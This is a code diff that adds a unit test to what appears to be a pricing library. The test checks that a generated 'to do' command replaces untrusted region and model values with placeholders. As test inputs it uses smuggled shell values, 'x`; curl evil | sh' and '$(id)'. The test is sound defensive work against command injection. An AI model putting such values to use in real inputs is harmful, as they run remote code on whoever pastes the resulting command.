@@ -150,6 +150,24 @@ describe('a region', () => {
     });
   });
 
+  test('that is more than a word is in no command to paste', () => {
+    const book = new PriceBook({ prices: [...LISTED, ...apart], names: [] });
+    const hostile = { region: 'x`; curl evil | sh', model: 'listed' };
+    const call = { provider: 'acme', at: AT, usage: USAGE, ...hostile };
+    const why = whyUnpriced(
+      { priceStatus: 'unpriced', reason: 'region_unlisted' },
+      { ...call, model: '$(id)' },
+      book.prices(),
+    );
+    expect(why.toDo).toContain('--provider acme --model <model> --region <region> --tier');
+    const unit = whyUnpriced(
+      { priceStatus: 'unpriced', reason: 'unit_unlisted', unit: 'output' },
+      call,
+      book.prices(),
+    );
+    expect(unit.toDo).toContain('--model listed --unit output --tier standard --region <region>');
+  });
+
   test('is no matter where the provider prices none apart, whatever a contract does', () => {
     const book = new PriceBook({
       prices: [...LISTED, contract('other', 'input', '1', us)],
